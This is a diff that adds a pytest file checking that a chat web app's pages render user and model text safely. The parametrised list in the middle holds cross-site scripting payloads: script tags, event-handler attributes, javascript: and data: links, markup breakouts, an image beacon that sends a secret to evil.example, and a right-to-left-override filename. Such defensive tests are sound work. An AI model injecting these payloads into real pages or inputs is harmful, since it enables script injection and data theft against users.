@@ -1,0 +1,114 @@
+"""Pages: readable without scripts, and nothing that Claude or a person wrote becomes a tag or a script."""
+
+import pytest
+
+from tests.web.page_model import Element, parsed
+from tests.web.web_world import OWNER, WebWorld
+
+_TAGS = frozenset(
+    "html head meta title link script body a header nav span main div h1 h2 h3 h4 h5 h6 p form label input "  # noqa: SIM905
+    "textarea button select option section ul ol li article footer details summary pre code b em strong s dl "
+    "dt dd small blockquote table thead tbody tr th td hr br fieldset legend root noscript".split()
+)
+_ATTRS = frozenset(
+    "lang charset name content rel href type src class id data-base data-session data-after data-list for "  # noqa: SIM905
+    "method action value placeholder rows required aria-label aria-labelledby aria-hidden role data-act "
+    "data-path data-body data-ask data-decision data-note data-question data-sure data-end hidden maxlength "
+    "selected start".split()
+)
+_HOSTILE = (
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "[x](javascript:alert(1))",
+    "[x](data:text/html,<script>alert(1)</script>)",
+    "![](http://evil.example/?q=secret)",
+    "[paypal.de](https://evil.example)",
+    '"><script>alert(1)</script>',
+    "' onmouseover='alert(1)",
+    "</textarea><script>alert(1)</script>",
+    "`</code><script>alert(1)</script>`",
+    "```html\n</pre><script>alert(1)</script>\n```",
+    "<!--><script>alert(1)</script>-->",
+    "<a href='https://evil.example' style='position:fixed;inset:0'>x</a>",
+    "| <script>alert(1)</script> |\n|---|\n| <b onclick=alert(1)>x</b> |",
+    "<iframe srcdoc='<script>alert(1)</script>'>",
+    "[ref]\n\n[ref]: javascript:alert(1)",
+    "<https://evil.example/<script>>",
+    "\u202egnp.exe\u2066",
+)
+
+
+def check(element: Element) -> None:
+    """Every tag and attribute of the page is one that we write, and every address is harmless."""
+    assert element.tag in _TAGS, element.tag
+    for name, value in element.attrs.items():
+        assert name in _ATTRS, (element.tag, name)
+        if name in ("href", "src", "action"):
+            assert (value or "").startswith(("/", "?", "#", "https://", "http://", "mailto:")), value
+    assert element.tag != "script" or (element.attrs.get("src") or "").startswith("/static/")
+    for part in element.parts:
+        if isinstance(part, Element):
+            check(part)
+
+
+@pytest.mark.parametrize("text", _HOSTILE)
+async def test_hostile_text_stays_text(world: WebWorld, text: str) -> None:
+    ann = await world.browser(OWNER)
+    session = await world.session_of(ann, f"demo:text {text}")
+    await world.settled(ann, session)
+    await ann.done("PATCH", f"/api/sessions/{session}", {"title": text})
+    for path in (f"/chat/{session}", "/", f"/?text={text[:3]}", "/doors", "/login"):
+        status, page = await ann.send("GET", path)
+        assert status == 200
+        check(parsed(page))
+        assert "\u202e" not in page
+
+
+async def test_hostile_asks_stay_text(world: WebWorld) -> None:
+    ann = await world.browser(OWNER)
+    for prompt in (
+        "demo:bash touch '<script>alert(1)</script>\u202e'",
+        "demo:plan <script>alert(1)</script>",
+    ):
+        session = await world.session_of(ann, prompt)
+        await world.asked(session)
+        page = await ann.done("GET", f"/chat/{session}")
+        check(parsed(page))
+        assert "&lt;script&gt;" in page
+        assert "\u202e" not in page
+
+
+async def test_a_reader_without_scripts_reads_and_prompts(world: WebWorld) -> None:
+    ann = await world.browser(OWNER)
+    headers = {"Origin": ann.origin, "Sec-Fetch-Site": "same-origin"}
+    form = {"prompt": "demo:text **bold** words", "key": "abcdefgh1"}
+    async with ann.http.post(f"{ann.address}/new", data=form, headers=headers) as answer:
+        assert answer.status == 200
+        session = answer.url.path.rpartition("/")[2]
+    await world.settled(ann, session)
+    for _ in range(2):  # a page that is sent again is no second prompt
+        again = {"prompt": "demo:text more", "key": "abcdefgh2"}
+        async with ann.http.post(f"{ann.address}/chat/{session}/send", data=again, headers=headers) as answer:
+            assert answer.status == 200
+    view = await world.settled(ann, session)
+    assert view["userInputs"] == 2
+    page = await ann.done("GET", f"/chat/{session}")
+    assert "<strong>bold</strong> words" in page
+    assert page.count('<article class="turn"') == 2
+
+
+async def test_a_long_session_opens_at_its_end(world: WebWorld) -> None:
+    ann = await world.browser(OWNER)
+    session = await world.session_of(ann)
+    for number in range(33):
+        await ann.done("POST", f"/api/sessions/{session}/messages", {"content": f"demo:text n{number}"})
+        await world.settled(ann, session)
+    page = await ann.done("GET", f"/chat/{session}")
+    assert page.count('<article class="turn"') == 30
+    before = page.partition("?before=")[2].partition('"')[0]
+    older = await ann.done("GET", f"/chat/{session}?before={before}")
+    assert older.count('<article class="turn"') == 3
+    assert "data-session" not in older
+    whole = await ann.done("GET", f"/api/sessions/{session}?all=1")
+    assert len(whole["conversationHistory"]) == 66
